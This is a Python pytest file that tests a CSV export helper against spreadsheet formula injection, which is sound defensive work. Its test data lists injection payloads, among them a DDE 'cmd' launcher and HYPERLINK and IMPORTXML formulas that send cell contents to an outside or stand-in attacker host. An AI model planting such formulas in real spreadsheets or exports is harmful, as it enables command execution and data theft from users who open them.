"""CSV cells never run as formulas: the known bypasses (OWASP "CSV injection") are neutralised with a leading
single quote wherever a spreadsheet could start a cell, including after delimiters it might expect instead of
the comma, quotes, line breaks and leading spaces. The check below is written independently of the helper."""
from __future__ import annotations

import ast
import csv
import io
import re
from fractions import Fraction
from pathlib import Path

import pytest

from whitepaper.csv_cells import cell, csv_text, neutral_text

# What a spreadsheet evaluates: a piece of a cell that starts with one of these (after spaces), or with a tab
# or a carriage return. Full-width and small forms are folded to ASCII by some spreadsheets.
EVALUATED_STARTS = set("=+-@") | {"\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b"}
# Where a spreadsheet may cut a cell: the delimiters it might expect (; in Spanish locales), quotes, line breaks.
CUTS = re.compile(r"[,;\t|\"\r\n]")
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")

BYPASSES = [
    "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", ";=1", ",=1", '"=1"', " =1",
    "\uff1d1+1", "\uff0b1", "\uff20SUM(1)", "a;=1+1", "a,=1+1", "a|=1", "a\t=1", "a\n=1", "a\r\n-1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")', "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
    "  \t  =1", "\u3000=1", "\u00a0@x", "'=1", "x;  +1", '" ;"=1', "=1;=2;=3", "\ufe66 1", "-", "@",
]


def evaluated(piece: str) -> bool:
    if piece[:1] in ("\t", "\r"):
        return True
    stripped = piece.lstrip()
    return bool(stripped) and stripped[0] in EVALUATED_STARTS and not NUMBER.fullmatch(stripped)


def cells_a_spreadsheet_would_run(text: str) -> list[str]:
    """Every cell (read with csv.reader) or piece of one (cut where a spreadsheet might) that would run."""
    found = []
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        for value in row:
            for piece in [value, *CUTS.split(value)]:
                if evaluated(piece):
                    found.append(piece)
    return found


def csv_line(value: str) -> str:
    raw = io.StringIO()
    csv.writer(raw).writerow([value])
    return raw.getvalue()


def test_the_checker_sees_every_bypass_when_nothing_is_neutralised():
    assert [p for p in BYPASSES if p != "'=1" and not cells_a_spreadsheet_would_run(csv_line(p))] == []


@pytest.mark.parametrize("payload", BYPASSES)
def test_no_known_bypass_survives_the_export(payload):
    text = csv_text(["text", "comment"], [[payload, f"ok {payload}"], [f"{payload}{payload}", None]])
    assert cells_a_spreadsheet_would_run(text) == []


@pytest.mark.parametrize("payload", BYPASSES)
def test_neutralising_only_adds_single_quotes(payload):
    assert neutral_text(payload).replace("'", "") == payload.replace("'", "")


@pytest.mark.parametrize("text", ["Buena coordinación", "Costo - beneficio", "2019–2022", "a, b y c",
                                  "NAC-2-08", "user@example.org", "50%", "Sí; en parte", ""])
def test_ordinary_text_is_left_alone(text):
    assert neutral_text(text) == text


def test_numbers_stay_numbers_and_none_is_empty():
    assert [cell(v) for v in (-2, -0.5, 3, Fraction(-1, 2), True, None)] == [-2, -0.5, 3, Fraction(-1, 2), True, ""]
    assert cell("-2") == "'-2"  # a text that looks like a formula is still text
    text = csv_text(["n", "x"], [[-1.5, "=1"]])
    assert text == "\ufeffn,x\r\n-1.5,'=1\r\n"
    assert not csv_text(["a"], [], bom=False).startswith("\ufeff")


def test_every_csv_export_uses_the_one_helper():
    """No module writes CSV or neutralises cells on its own: csv.writer appears only in csv_cells.py."""
    root = Path(__file__).resolve().parents[2] / "whitepaper"
    writers = []
    for path in root.rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and \
                    isinstance(node.value, ast.Name) and node.value.id == "csv":
                writers.append(path.relative_to(root).as_posix())
    assert writers == ["csv_cells.py"]
